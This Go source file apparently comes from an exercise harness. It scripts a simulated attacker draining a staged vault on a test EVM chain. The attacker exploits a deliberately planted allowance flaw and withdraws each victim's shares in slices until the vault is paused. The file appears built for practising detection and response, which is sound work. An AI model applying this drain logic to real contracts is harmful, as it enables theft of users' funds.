package stage

import (
	"context"
	"errors"
	"fmt"

	"github.com/ethereum/go-ethereum/crypto"
	"github.com/holiman/uint256"

	"tocsin/evm"
	"tocsin/fault"
)

const (
	slices  = 12 // transactions in which the attacker takes one victim's first deposit
	retries = 3  // refusals by a paused vault after which the attacker gives up
)

// Tx is a transaction that was mined.
type Tx struct {
	Hash   evm.Hash
	Block  uint64
	Status uint64 // 1 succeeded, 0 failed
}

// AttackBegun reports whether the attack was ever launched.
func (s *Stage) AttackBegun(ctx context.Context) (bool, error) {
	n, err := s.client.Nonce(ctx, s.attacker.address(), false)
	if err != nil {
		return false, fmt.Errorf("read whether the attack has begun: %w", err)
	}
	return n > 0, nil
}

// Attack launches the attack and returns once its first transaction is mined, after which it goes on by itself, also
// after a restart. Launching it twice is a conflict.
func (s *Stage) Attack(ctx context.Context) error {
	s.attacking.Lock()
	defer s.attacking.Unlock()
	begun, err := s.AttackBegun(ctx)
	if err != nil {
		return err
	}
	if begun {
		return fault.New(fault.Conflict, "The attack has already begun.")
	}
	// If an earlier launch was broken off, its transaction may still wait: it is the same one.
	idle, err := s.attacker.idle(ctx)
	if err != nil {
		return fmt.Errorf("launch attack: %w", err)
	}
	if idle {
		c, err := s.prepare(s.users[0])
		if err == nil {
			_, err = s.attacker.send(ctx, c)
		}
		if err != nil {
			return fmt.Errorf("launch attack: %w", err)
		}
	}
	mined := errors.New("mined")
	err = s.client.Heads(ctx, func(evm.Header) error {
		if begun, err := s.AttackBegun(ctx); err != nil || !begun {
			return err
		}
		return mined
	})
	if err != mined {
		return fmt.Errorf("launch attack: %w", err)
	}
	s.playing.Go(s.playAttack)
	return nil
}

// resumeAttack goes on with an attack that was under way when the process ended.
func (s *Stage) resumeAttack(ctx context.Context) error {
	begun, err := s.AttackBegun(ctx)
	if err != nil || !begun {
		return err
	}
	if over, err := s.attackOver(ctx); err != nil || over {
		return err
	}
	paused, err := s.Paused(ctx)
	if err != nil {
		return err
	}
	if paused {
		return s.giveUp(ctx)
	}
	s.playing.Go(s.playAttack)
	return nil
}

// hideout is where the attacker's ether goes in the end. That it holds some is how the chain says: the attack is over.
func hideout() evm.Address { return crypto.CreateAddress(evm.Address{}, 0) }

func (s *Stage) attackOver(ctx context.Context) (bool, error) {
	b, err := s.client.Balance(ctx, hideout(), nil)
	if err != nil {
		return false, fmt.Errorf("read whether the attack is over: %w", err)
	}
	return !b.IsZero(), nil
}

func (s *Stage) giveUp(ctx context.Context) error {
	to := hideout()
	_, err := s.attacker.send(ctx, call{to: &to, value: uint256.NewInt(1e18)})
	return err
}

// prepare is the allowance that the attacker gives a victim, which the vault reads the wrong way round.
func (s *Stage) prepare(victim *actor) (call, error) {
	return on(s.Vault, "approve(address,uint256)", victim.address(), unlimited)
}

// errOver ends the attacker's watching.
var errOver = errors.New("the attack is over")

// raid is the attacker between blocks.
type raid struct {
	*Stage
	waiting evm.Hash // sent and not mined; zero if none
	rest    uint64   // the block before which nothing more is sent
	refused int      // by a paused vault, in a row
}

func (s *Stage) playAttack() {
	r := raid{Stage: s}
	err := s.client.Heads(s.ctx, func(h evm.Header) error {
		err := r.move(s.ctx, h.Number)
		if errors.Is(err, errOver) {
			return err
		}
		s.trouble("the attack", err)
		return s.ctx.Err()
	})
	if !errors.Is(err, errOver) {
		s.trouble("the attack", err)
	}
}

// move is what the attacker does at a block.
func (r *raid) move(ctx context.Context, block uint64) error {
	if r.waiting != (evm.Hash{}) {
		rec, err := r.client.Receipt(ctx, r.waiting)
		if err != nil {
			return err // not mined yet
		}
		r.waiting, r.rest = evm.Hash{}, rec.BlockNumber+r.opts.Pace-1
		if err := r.learn(ctx, rec); err != nil {
			return err
		}
	}
	if block < r.rest {
		return nil
	}
	c, ok, err := r.next(ctx)
	if err != nil {
		return err
	}
	if !ok || r.refused >= retries {
		if err := r.giveUp(ctx); err != nil {
			return err
		}
		return errOver
	}
	r.waiting, err = r.attacker.send(ctx, c)
	return err
}

// learn counts refusals by a paused vault.
func (r *raid) learn(ctx context.Context, rec *evm.Receipt) error {
	if rec.Status == 1 {
		r.refused = 0
		return nil
	}
	paused, err := r.Paused(ctx)
	if paused {
		r.refused++
	}
	return err
}

// next is the attacker's next transaction: a slice of the first victim who has anything left, after the allowance that
// makes it possible. It is false if nothing is left.
func (r *raid) next(ctx context.Context) (call, bool, error) {
	for i, victim := range r.users {
		left, err := r.shares(ctx, victim.address())
		if err != nil {
			return call{}, false, err
		}
		if left.Lt(husd(1)) {
			continue
		}
		given, err := r.read(ctx, r.Vault, nil, "allowance(address,address)", r.attacker.address(), victim.address())
		if err != nil {
			return call{}, false, err
		}
		if given.IsZero() {
			c, err := r.prepare(victim)
			return c, true, err
		}
		amount := part(husd(deposits[i]), 1, slices)
		if left.Lt(amount) {
			amount = left
		}
		c, err := on(r.Vault, "withdraw(uint256,address,address)", amount, r.attacker.address(), victim.address())
		return c, true, err
	}
	return call{}, false, nil
}
